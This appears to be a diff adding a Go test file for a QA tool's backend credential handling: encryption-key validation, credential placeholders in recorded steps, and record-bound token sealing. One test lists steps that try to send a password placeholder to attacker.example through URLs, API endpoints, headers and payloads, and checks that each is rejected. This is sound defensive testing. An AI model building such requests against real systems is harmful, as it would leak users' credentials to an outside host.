@@ -0,0 +1,93 @@
+package database
+
+import (
+	"context"
+	"encoding/base64"
+	"testing"
+
+	"qa-extension-backend/internal/models"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/oauth2"
+)
+
+func TestCredentialCipherRequiresKey(t *testing.T) {
+	t.Setenv(CredentialKeyEnv, "")
+	_, _, err := credentialCipher()
+	assert.ErrorIs(t, err, ErrCredentialKeyMissing)
+
+	t.Setenv(CredentialKeyEnv, base64.StdEncoding.EncodeToString([]byte("too short")))
+	_, _, err = credentialCipher()
+	assert.Error(t, err)
+
+	t.Setenv(CredentialKeyEnv, base64.StdEncoding.EncodeToString(make([]byte, 32)))
+	aead, keyID, err := credentialCipher()
+	require.NoError(t, err)
+	assert.NotNil(t, aead)
+	assert.Len(t, keyID, 8)
+}
+
+func TestApplyCredentialReference(t *testing.T) {
+	s := models.TestScenario{
+		AuthConfig: models.AuthConfig{Username: "qa@example.com", Password: "hunter2"},
+		Sections: []models.TestSection{{
+			TestCases: []models.TestCase{{
+				AutomationTest: &models.AutomationTest{Steps: []models.RecordingStep{
+					{Action: "navigate", Value: "qa@example.com"},
+					{Action: "type", Value: "qa@example.com"},
+					{Action: "type", Value: "hunter2"},
+					{Action: "click"},
+				}},
+			}},
+		}},
+	}
+	secret := models.CredentialSecret{Username: s.AuthConfig.Username, Password: s.AuthConfig.Password}
+
+	ApplyCredentialReference(&s, "cred-1", secret)
+
+	assert.Equal(t, "cred-1", s.AuthConfig.CredentialID)
+	assert.False(t, s.AuthConfig.HasInlineSecret())
+	steps := s.Sections[0].TestCases[0].AutomationTest.Steps
+	assert.Equal(t, "qa@example.com", steps[0].Value)
+	assert.Equal(t, "{{credential:cred-1:username}}", steps[1].Value)
+	assert.Equal(t, "{{credential:cred-1:password}}", steps[2].Value)
+	assert.Equal(t, "", steps[3].Value)
+}
+
+func TestResolveStepCredentialsOnlyInFields(t *testing.T) {
+	placeholder := models.CredentialPlaceholder("cred-1", models.CredentialPassword)
+	rejected := []models.RecordingStep{
+		{Action: "navigate", Value: "https://attacker.example/?p=" + placeholder},
+		{Action: "navigate", Selector: "https://attacker.example/" + placeholder},
+		{Action: "api_request", ApiEndpoint: "https://attacker.example/" + placeholder},
+		{Action: "api_request", ApiHeaders: `{"Authorization": "` + placeholder + `"}`},
+		{Action: "api_request", ApiPayload: `{"password": "` + placeholder + `"}`},
+		{Action: "press", Value: placeholder},
+	}
+	for _, step := range rejected {
+		_, err := ResolveStepCredentials(context.Background(), "project-1", step)
+		assert.Error(t, err, "%s step %+v", step.Action, step)
+	}
+
+	value, err := ResolveStepCredentials(context.Background(), "project-1", models.RecordingStep{Action: "navigate", Value: "https://app.example/login"})
+	require.NoError(t, err)
+	assert.Equal(t, "https://app.example/login", value)
+	value, err = ResolveStepCredentials(context.Background(), "project-1", models.RecordingStep{Action: "type", Value: "plain text"})
+	require.NoError(t, err)
+	assert.Equal(t, "plain text", value)
+}
+
+func TestSealTokenIsBoundToRecord(t *testing.T) {
+	t.Setenv(CredentialKeyEnv, base64.StdEncoding.EncodeToString(make([]byte, 32)))
+	sealed, err := sealToken(&oauth2.Token{AccessToken: "glpat-secret", TokenType: "Bearer"}, "token-1")
+	require.NoError(t, err)
+	assert.NotContains(t, sealed.Ciphertext, "glpat-secret")
+
+	token, err := openToken(sealed, "token-1")
+	require.NoError(t, err)
+	assert.Equal(t, "glpat-secret", token.AccessToken)
+
+	_, err = openToken(sealed, "token-2")
+	assert.Error(t, err, "a sealed token can't be opened for another record")
+}